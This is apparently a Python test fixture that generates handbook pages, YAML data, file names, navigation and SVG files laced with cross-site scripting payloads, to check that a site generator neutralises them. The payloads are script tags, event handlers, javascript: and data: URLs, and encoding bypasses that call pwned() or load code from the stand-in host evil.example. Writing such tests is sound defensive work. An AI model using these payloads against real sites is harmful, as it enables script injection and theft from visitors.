"""Texts that try to run, load or leave, and the places of a handbook that a text can come to.

Each calls `pwned`, asks `evil.example` for something, or leads there, should it come alive.
"""

import html
import json
import os

# An image from elsewhere is one that the author means, and the policy keeps out: a text that shows one
# and does nothing else calls it `meant.png`.
MEANT = "http://evil.example/meant.png"

# Markup, as it would be written by someone who means harm.
MARKUP = [
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>pwned()</sCrIpT >",
    "<script\n>pwned()</script\n>",
    "<script/x>pwned()</script>",
    "</title><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</textarea></xmp></noscript><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<!--><img src=x onerror=pwned()>-->",
    "<!---><img src=x onerror=pwned()>",
    '<x y="<script>pwned()</script>">',
    '<x y="<!--">',
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'>",
    '<img src=x onerror="pwned()">',
    "<img src=x onerror=`pwned()`>",
    "<img/src=x/onerror=pwned()>",
    "<img\tsrc=x\tonerror=pwned()>",
    "<img\x0csrc=x\x0conerror=pwned()>",
    "<IMG SRC=x ONERROR=pwned()>",
    '<img src="x"onerror="pwned()">',
    "<img src=x alt=' onerror=pwned() '>",
    "<img src=//evil.example/meant.png>",
    "<img srcset='//evil.example/meant.png 1x'>",
    "<picture><source srcset=//evil.example/meant.png><img src=x></picture>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned()><text x=9 y=9>a</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "<svg></p><style><g title=\"</style><img src=x onerror=pwned()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned()&gt;\">",
    "<math href=javascript:pwned()>a</math>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:pwned()></object>",
    "<object data=//evil.example/></object>",
    "<embed src=//evil.example/>",
    "<form action=//evil.example/><button autofocus onfocus=pwned()>a</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()><summary>a</summary></details>",
    "<video><source onerror=pwned()></video>",
    "<video src=x onerror=pwned() poster=//evil.example/x.png></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<body onload=pwned()>",
    "<html onmouseover=pwned()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<p style='background:url(//evil.example/x.png)'>a</p>",
    "<b onmouseover=pwned()>a</b>",
    "<b title='\"><img src=x onerror=pwned()>'>a</b>",
    "<b title=\"&#0;\" id='\"><img src=x onerror=pwned()>'>a</b>",
    "<b title=\"&quot;&gt;&lt;img src=x onerror=pwned()&gt;\">a</b>",
    "<a href=javascript:pwned()>a</a>",
    "<a href=' javascript:pwned()'>a</a>",
    "<a href='java\tscript:pwned()'>a</a>",
    "<a href='&#x6A;avascript&colon;pwned()'>a</a>",
    "<a href=data:text/html,<script>pwned()</script>>a</a>",
    "<a href=x ping=//evil.example/ target=x onclick=pwned()>a</a>",
    "<template><script>pwned()</script></template>",
    "<template shadowrootmode=open><script>pwned()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\"></noscript>",
    "<table background=//evil.example/x.png><tr><td>a</table>",
    "<plaintext><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "<\0script>pwned()</script>",
    "\ufeff<script>pwned()</script>",
    "＜script＞pwned()＜/script＞",
    "\"><script>pwned()</script>",
    "'><script>pwned()</script>",
    "\" onmouseover=pwned() x=\"",
    "' autofocus onfocus=pwned() x='",
    "`${pwned()}`",
    "{{{<script>pwned()</script>}}} {{> pwned}}",
    "';pwned();//",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\u2028pwned()\u2029</script><script>pwned()</script>",
]

# Addresses.
URLS = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "\x01javascript:pwned()",
    "java&#10;script:pwned()",
    "java&Tab;script:pwned()",
    "&#106;avascript:pwned()",
    "&#x6A;avascript&#58;pwned()",
    "javascript&colon;pwned()",
    "javascript&#0;:pwned()",
    "javascript:%70wned()",
    "vbscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "view-source:javascript:pwned()",
    "blob:pwned",
    "feed:javascript:pwned()",
    "x\" onerror=\"pwned()",
    "x' onerror='pwned()",
    "x&quot; onerror=&quot;pwned()",
    "x`onerror=`pwned()",
    "x><img src=x onerror=pwned()>",
    "\\\\evil.example/meant.png",
]

# Ways in which a page's text can hold one.
MARKUP_CHANNELS = {
    "block": "{0}",
    "inline": "word {0} word",
    "attribute": '<b title="{0}">a</b>',
    "single": "<b title='{0}'>a</b>",
    "bare": "<b title={0}>a</b>",
    "encoded": '<b title="{1}">a</b> {1}',
    "refused": '<x y="{0}">a</x>',
    "comment": "<!-- {0} -->",
    "code": "``{0}``",
    "fence": "```html\n{0}\n```",
    "info": "```{2} title=\"{2}\" {2}\n{0}\n```",
    "quote": "> [!NOTE] {2}\n> {0}",
    "table": "| {2} | b |\n| --- | --- |\n| {2} | {2} |",
    "heading": "## {2}",
    "id": "## Title {{#{2}}}",
    "title": '[a](index.md "{3}")',
    "alternative": "![{2}](dot.png)",
    "definition": "[a][{2}]\n\n[{2}]: index.md '{2}'",
    "footnote": "a[^{2}]\n\n[^{2}]: {2}",
    "task": "- [ ] {0}\n- {0}",
    "tabs": "=== \"{2}\"\n\n    {2}",
    "citation": "<rule:{2}> <evidence:{2}> <term:{2}> {{{{ {2} }}}}",
}
URL_CHANNELS = {
    "link": "[a](<{0}>)",
    "bare link": "[a]({0})",
    "image": "![a](<{0}>)",
    "linked image": "[![a](<{0}>)](<{0}>)",
    "reference": "[a]\n\n[a]: <{0}>",
    "autolink": "<{0}>",
    "raw link": '<a href="{0}">a</a>',
    "raw image": '<img src="{0}" alt="a">',
    "cite": '<q cite="{0}">a</q> <blockquote cite="{0}">a</blockquote>',
}


def one_line(text):
    return text.replace("\n", " ").replace("\0", "&#0;")


def block(channel, text):
    """A text as a channel has it."""
    encoded = "".join(f"&#{ord(character)};" for character in text)
    line = one_line(text)
    return channel.format(text, encoded, line, line.replace('"', '\\"'))


def pages(channels, texts, size=12):
    """Pages by path, some texts on each so that one that swallows the rest is no shelter for it."""
    made = {}
    for number, channel in enumerate(channels.values()):
        for start in range(0, len(texts), size):
            blocks = [block(channel, text) for text in texts[start : start + size]]
            made[f"c{number}-{start}.md"] = "# Page\n\n" + "\n\n".join(blocks) + "\n"
    return made


def quoted(text):
    """A text as YAML has it, every character of it."""
    return json.dumps(text)


def some(texts):
    """Texts with their numbers, for channels that make pages of each: every fifth, or all of them where
    HOSTILE=all is in the environment."""
    return list(enumerate(texts))[:: 1 if os.environ.get("HOSTILE") == "all" else 5]


def front_matter():
    """A page for each text, which is each of its words."""
    made = {}
    for number, text in some(MARKUP + URLS):
        word = quoted(text)
        made[f"f{number}.md"] = (
            f"---\ntitle: {word}\ndescription: {word}\nnav_title: {word}\ntags: [{word}]\n"
            f"owner: {word}\nstatus: {word}\n---\n\nText.\n"
        )
    return made


def data():
    """Decisions, evidence and terms that say each text."""
    made = {}
    for number, text in some(MARKUP):
        word = quoted(text)
        made[f"d{number}.decision.yml"] = (
            f"decision: d{number}\ntitle: {word}\nsummary: {word}\n"
            f"options: {{a: {{title: {word}, summary: {word}}}, b: {{title: {word}}}}}\n"
            f"questions:\n  q: {{ask: {word}, why: {word}, answers: {{x: {word}, y: {word}}}}}\n"
            f"rules:\n"
            f"  r{number}: {{title: {word}, when: {{q: x}}, choose: a, strength: strong, because: {word}, evidence: [e{number}]}}\n"
            f"  s{number}: {{title: {word}, when: {{q: y}}, choose: b, strength: strong, because: {word}, evidence: [e{number}]}}\n"
        )
        made[f"d{number}.evidence.yml"] = (
            f"sources:\n  s{number}: {{title: {word}, publisher: {word}, url: \"https://example.org/?{number}\"}}\n"
            f"evidence:\n  e{number}: {{claim: {word}, value: {word}, status: measured, source: s{number}, note: {word}}}\n"
        )
        made[f"g{number}.glossary.yml"] = f"terms:\n  t{number}: {{title: {word}, definition: {word}, aliases: [{word}]}}\n"
        made[f"p{number}.md"] = (
            f"# Page {number}\n\n<rule:r{number}> <evidence:e{number}> <term:t{number}>\n\n"
            f"<decision:d{number}>\n\n<rules:d{number}>\n"
        )
    return made


def names():
    """Files and folders that are called like each text, as far as a disk allows it."""
    made = {}
    for number, text in some(MARKUP + URLS):
        name = "".join(character for character in text if character not in "/\0\n\t\x0c\x01\u2028\u2029")
        name = name[:80].strip(". _")
        if name:
            made[f"n{number}/{name}.md"] = "Text.\n"
            made[f"m{number}/{name}/index.md"] = "Text.\n"
    return made


def navigation():
    """Another tool's navigation, which gives each page a title."""
    made = {f"page{number}.md": "Text.\n" for number in range(len(MARKUP))}
    lines = [f"  - {quoted(text)}: page{number}.md" for number, text in enumerate(MARKUP)]
    made["mkdocs.yml"] = "site_name: \"<script>pwned()</script>\"\nnav:\n" + "\n".join(lines) + "\n"
    return made


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><rect width="9" height="9"/>{}</svg>'
# What is in an SVG, which is an image of a page and opened by itself.
SVGS = [
    "<script>top.pwned()</script>",
    "<script href='//evil.example/x.js'/>",
    "<s:script xmlns:s='http://www.w3.org/2000/svg'>top.pwned()</s:script>",
    "<g onload='top.pwned()'/>",
    "<animate attributeName='x' dur='1s' onbegin='top.pwned()'/>",
    "<set attributeName='href' to='javascript:top.pwned()'/>",
    "<a href='javascript:top.pwned()'><rect width='9' height='9'/></a>",
    "<a xlink:href='&#x6A;avascript:top.pwned()'><rect width='9' height='9'/></a>",
    "<image href='//evil.example/x.png'/>",
    "<use href='https://evil.example/x.svg#a'/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>rect{fill:url(//evil.example/x.svg#a)}</style>",
    "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='top.pwned()'/></foreignObject>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='//evil.example/'/></foreignObject>",
    "<foreignObject width='9' height='9'><h:script xmlns:h='http://www.w3.org/1999/xhtml'>top.pwned()</h:script></foreignObject>",
    "<foreignObject width='9' height='9'><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=//evil.example/'/></foreignObject>",
    "<handler type='application/ecmascript' ev='load'>top.pwned()</handler>",
]


def svgs():
    made = {f"s{number}.svg": SVG.format(text) for number, text in enumerate(SVGS)}
    made["e.svg"] = '<!DOCTYPE svg [<!ENTITY e "<script xmlns=\'http://www.w3.org/2000/svg\'>top.pwned()</script>">]>' + SVG.format("&e;")
    made["x.svg"] = "<?xml-stylesheet href='//evil.example/x.css'?>" + SVG.format("")
    for name in list(made):
        made[name.replace(".svg", ".md")] = f"# Page\n\n![a]({name}) [a]({name})\n"
    return made


def escaped(text):
    """A text as a fragment or a query of an address."""
    return html.escape(text)
